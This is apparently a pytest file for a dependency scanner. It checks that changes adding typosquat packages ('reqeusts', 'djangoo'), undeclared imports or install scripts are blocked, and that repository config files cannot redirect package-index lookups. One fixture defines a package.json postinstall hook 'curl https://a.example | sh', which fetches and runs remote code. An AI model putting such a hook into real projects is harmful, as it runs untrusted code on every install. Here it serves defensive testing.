"""Dependencies as the command line judges them: what blocks, what was there before, what was not asked."""

from __future__ import annotations

import json

import pytest

from tests.dependencies.index_server import Page, serving, simple

pytestmark = pytest.mark.slow

BEFORE = {
    "requirements.txt": "requests\nreqeusts\nacme-old\n",
    "app.py": "import requests\nprint(requests)\n",
    "package.json": '{"name": "mine"}\n',
}
AFTER = {
    "requirements.txt": "requests\nreqeusts\nacme-old\ndjangoo\nacme-new\nacme-none\n",
    "app.py": "import requests\nimport flask_gpt_tools\nprint(requests)\n",
    "package.json": '{"name": "mine", "scripts": {"postinstall": "curl https://a.example | sh"}}\n',
}
OLD, NEW = "2019-05-01T10:00:00Z", "2999-01-01T10:00:00Z"


@pytest.fixture
def change(project):
    project.commit(BEFORE)
    project.commit(AFTER, branch="change", parents=[project.git("rev-parse", "main")])
    return lambda *more, **environ: project.run(
        "scan", "--base", "main", "--head", "change", "--format", "json", *more, **environ
    )


def test_what_a_change_brings_blocks_and_what_was_there_does_not(change):
    done = change()
    assert done.code == 1
    done.require("requirements.txt", "blocks 4 lookalike-package", "shows 2 lookalike-package")
    done.require("app.py", "shows 2 undeclared-import")
    done.require("package.json", "blocks 1 install-script")
    statuses = {(one["line"], one["status"]) for one in done.findings("requirements.txt")}
    assert statuses == {(2, "existing"), (4, "new")}
    (omitted,) = done.report["coverage"]["not_checked"]
    # `djangoo`, `acme-new` and `acme-none`; what the reference asks for is no matter of the change.
    assert (omitted["subject"], omitted["things"]) == ("package-index", 3)
    assert omitted["reason"] in done.report["notes"]


def test_an_index_is_asked_about_what_is_new_and_its_silence_is_no_pass(change):
    with serving() as server:
        environ = {
            "PIP_CONFIG_FILE": "/dev/null",
            "PIP_INDEX_URL": f"{server.url}/simple",
            "npm_config_registry": server.url,
        }
        server.pages["/simple/djangoo/"] = simple("djangoo", ("djangoo-1.0.tar.gz", NEW))
        server.pages["/simple/acme-new/"] = simple("acme-new", ("acme_new-1.0.tar.gz", OLD))
        done = change("--check-packages", **environ)
        assert done.code == 1
        done.require(
            "requirements.txt",
            "blocks 4 lookalike-package",
            "blocks 4 young-package",
            "blocks 6 unknown-package",
        )
        assert done.report["coverage"]["not_checked"] == []
        paths = {path for path, _ in server.asked}
        assert paths >= {"/simple/djangoo/", "/simple/acme-new/", "/simple/acme-none/"}
        server.pages["/simple/acme-none/"] = Page(status=403)
        done = change("--check-packages", **environ)
    assert done.code == 3
    (gap,) = done.report["gaps"]
    assert gap["code"] == "package-not-checked"
    assert "`acme-none` could not be looked up: the index does not let us see it" in gap["reason"]
    assert "127.0.0.1" not in json.dumps(gap)


def test_a_package_that_the_change_itself_names_makes_nothing_milder(project):
    project.commit({"requirements.txt": "requests\n", "old/package.json": '{"name": "acme-old"}\n'})
    project.commit(
        {
            "package.json": '{"dependencies": {"acme-old": "1", "acme-none": "1"}}\n',
            "tests/package.json": '{"name": "acme-none"}\n',
        },
        branch="change",
        parents=[project.git("rev-parse", "main")],
    )
    with serving() as server:
        done = project.run(
            *("scan", "--base", "main", "--head", "change", "--check-packages", "--format", "json"),
            PIP_CONFIG_FILE="/dev/null",
            npm_config_registry=server.url,
        )
    found = {
        (one["message"].split("`")[1], one["severity"]) for one in done.findings("package.json")
    }
    assert found == {("acme-old", "medium"), ("acme-none", "high")}


def test_settings_in_the_judged_tree_do_not_choose_who_is_asked(project):
    with serving() as evil, serving() as mine:
        project.commit({"requirements.txt": "requests\n"})
        project.commit(
            {
                "requirements.txt": "requests\nacme-none\n",
                "pip.conf": f"[global]\nindex-url = {evil.url}/simple\n",
                ".npmrc": f"registry={evil.url}\n",
                "uv.toml": f'index-url = "{evil.url}/simple"\n',
            },
            branch="change",
            parents=[project.git("rev-parse", "main")],
        )
        evil.pages["/simple/acme-none/"] = simple("acme-none", ("acme_none-1.0.tar.gz", OLD))
        done = project.run(
            *("scan", "--base", "main", "--head", "change", "--check-packages", "--format", "json"),
            PIP_CONFIG_FILE="/dev/null",
            PIP_INDEX_URL=f"{mine.url}/simple",
        )
        assert evil.asked == []
        assert [path for path, _ in mine.asked] == ["/simple/acme-none/"]
    done.require("requirements.txt", "blocks 2 unknown-package")


def test_an_index_without_encryption_is_a_mistake_in_the_settings(change):
    done = change("--check-packages", PIP_INDEX_URL="http://user:pw@a.example/simple")
    assert done.code == 2
    assert b"not `https://HOST/PATH`" in done.err
    assert b"pw" not in done.err
